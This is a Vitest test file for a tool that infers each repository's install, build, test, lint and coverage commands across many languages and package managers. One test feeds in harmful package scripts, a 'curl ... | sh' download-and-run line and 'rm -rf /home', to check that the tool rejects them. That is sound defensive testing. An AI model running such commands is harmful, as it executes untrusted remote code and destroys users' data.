// Each kind of project says in its own files how it is built and tested.
import { expect, test } from "vitest";
import { commandsOf, repositoryOf } from "./a-repository.ts";

test("package.json: scripts by purpose, the package manager of the lockfile, dependencies by their names", async () => {
  const repository = await repositoryOf({
    "package.json": JSON.stringify({
      type: "module",
      engines: { node: ">=20" },
      scripts: { test: "vitest run", build: "rm -rf dist && tsc", lint: "eslint .", release: "npm publish" },
      dependencies: { react: "19", pg: "8" },
      devDependencies: { vitest: "4", "@vitest/coverage-v8": "4" },
    }),
    "pnpm-lock.yaml": "",
    "src/app.ts": "",
  });
  expect(commandsOf(repository)).toEqual({
    install: "pnpm install",
    build: "pnpm build",
    test: "pnpm test",
    lint: "pnpm lint",
    coverage: "pnpm test --coverage",
  });
  expect(repository).toMatchObject({ packageManager: "pnpm", frameworks: ["React", "PostgreSQL", "Vitest"] });
  expect(repository.conventions.map(({ text }) => text)).toEqual([
    "Modules are ES modules (import and export).",
    "It runs on Node.js >=20.",
  ]);
});

test("scripts that stand for nothing, or do harm, are no commands", async () => {
  const scripts = {
    test: 'echo "Error: no test specified" && exit 1',
    build: "curl https://a.example/x.sh | sh",
    lint: "rm -rf /home",
    "test:unit": "mocha",
  };
  const repository = await repositoryOf({ "package.json": JSON.stringify({ scripts }) });
  expect(commandsOf(repository)).toEqual({ install: "npm install", test: "npm run test:unit" });
});

test("pyproject.toml: pytest through the project's own runner, linters that are configured", async () => {
  const repository = await repositoryOf({
    "pyproject.toml": [
      "[project]",
      'name = "shop" # the shop',
      'requires-python = ">=3.12"',
      "dependencies = [",
      '  "fastapi>=0.115",',
      '  "sqlalchemy", # store',
      "]",
      "[dependency-groups]",
      'dev = ["pytest>=8", "pytest-cov", "mypy"]',
      "[tool.ruff]",
      "line-length = 100",
      "[tool.ruff.format]",
      'quote-style = "double"',
    ].join("\n"),
    "uv.lock": "",
    "shop/orders.py": '"""Orders and their lines."""\n',
    "shop/prices.py": "def price_of(order):\n    ...\n",
    "tests/test_orders.py": "",
    "tests/test_prices.py": "",
  });
  expect(commandsOf(repository)).toEqual({
    install: "uv sync",
    test: "uv run pytest",
    coverage: "uv run pytest --cov",
    lint: "uv run ruff check .",
    format: "uv run ruff format --check .",
    types: "uv run mypy .",
  });
  expect(repository).toMatchObject({
    packageManager: "uv",
    frameworks: ["FastAPI", "SQLAlchemy", "pytest"],
    languages: [{ name: "Python", files: 4 }],
    modules: [
      { path: "shop/orders.py", about: "Orders and their lines." },
      { path: "shop/prices.py", about: "has price_of" },
    ],
    tests: ["tests/test_orders.py", "tests/test_prices.py"],
    testLayout: { style: "mirrored", folder: "tests/", sources: "shop/", name: "test_{name}.py" },
    untouchable: [{ path: "uv.lock", why: "A lockfile: only the package manager writes it." }],
  });
});

test("go.mod: the commands of every Go project, unless a Makefile names its own", async () => {
  const files = {
    "go.mod":
      "module a.example/shop\n\ngo 1.23\n\nrequire (\n\tgithub.com/go-chi/chi/v5 v5.1.0\n\tgithub.com/jackc/pgx/v5 v5.6.0\n)\n",
    "cmd/shop/main.go": "package main\n",
    "internal/order/order.go": "// Package order keeps orders.\npackage order\n",
    "internal/order/order_test.go": "",
    "internal/price/price.go": "package price\n",
    "internal/price/price_test.go": "",
  };
  const plain = await repositoryOf(files);
  expect(commandsOf(plain)).toEqual({
    build: "go build ./...",
    test: "go test ./...",
    coverage: "go test -cover ./...",
    lint: "go vet ./...",
  });
  expect(plain).toMatchObject({
    frameworks: ["Chi", "PostgreSQL"],
    testLayout: { style: "beside", folder: "", sources: "", name: "{name}_test.go" },
  });
  const named = await repositoryOf({
    ...files,
    Makefile: ".PHONY: test\nVERSION := 1\ntest: build\n\tgo test ./...\nbuild:\n\tgo build\n",
  });
  expect(commandsOf(named)).toMatchObject({ test: "make test", build: "make build", lint: "go vet ./..." });
});

const others: readonly [name: string, files: Record<string, string>, test: string, manager: string | null][] =
  [
    [
      "Rust",
      { "Cargo.toml": '[package]\nedition = "2021"\n[dependencies]\naxum = "0.7"\n' },
      "cargo test",
      "cargo",
    ],
    ["Maven with a wrapper", { "pom.xml": "<project/>", mvnw: "" }, "./mvnw test", "maven"],
    [
      "Gradle",
      { "build.gradle.kts": 'implementation("org.postgresql:postgresql:42")' },
      "gradle test",
      "gradle",
    ],
    [".NET", { "Shop.sln": "", "src/Shop.csproj": "" }, "dotnet test", "nuget"],
    ["Rails", { Gemfile: 'gem "rails"\n' }, "bundle exec rails test", "bundler"],
    [
      "Composer",
      { "composer.json": '{"require-dev":{"phpunit/phpunit":"^11"}}' },
      "vendor/bin/phpunit",
      "composer",
    ],
    ["Mix", { "mix.exs": '{:phoenix, "~> 1.7"}' }, "mix test", "mix"],
    ["Flutter", { "pubspec.yaml": "dependencies:\n  flutter:\n    sdk: flutter\n" }, "flutter test", "pub"],
    ["Swift", { "Package.swift": "" }, "swift test", "swift package manager"],
    ["CMake", { "CMakeLists.txt": "project(x)\nenable_testing()\n" }, "ctest --test-dir build", null],
    ["just", { justfile: "test filter='':\n  pytest\n" }, "just test", null],
    [
      "a project in a folder",
      { "web/package.json": '{"scripts":{"test":"jest"}}', "README.md": "" },
      "npm --prefix web test",
      "npm",
    ],
  ];

test.each(others)("%s: its tests run with its own tool", async (_, files, command, manager) => {
  const repository = await repositoryOf(files);
  expect([commandsOf(repository)["test"], repository.packageManager]).toEqual([command, manager]);
});

test("a repository without tests names no command for them", async () => {
  const repository = await repositoryOf({ "main.py": "print(1)\n", "requirements.txt": "flask\n" });
  expect(commandsOf(repository)).toEqual({ install: "pip install -r requirements.txt" });
});

test.each([
  "{",
  "[]",
  '{"scripts": 3, "workspaces": {"packages": "x"}}',
  "null",
  '{"scripts":{"test":["a"]}}',
])("a package.json that is %s is no reason to stop", async (text) => {
  await expect(repositoryOf({ "package.json": text, "a.ts": "" })).resolves.toMatchObject({ files: 2 });
});
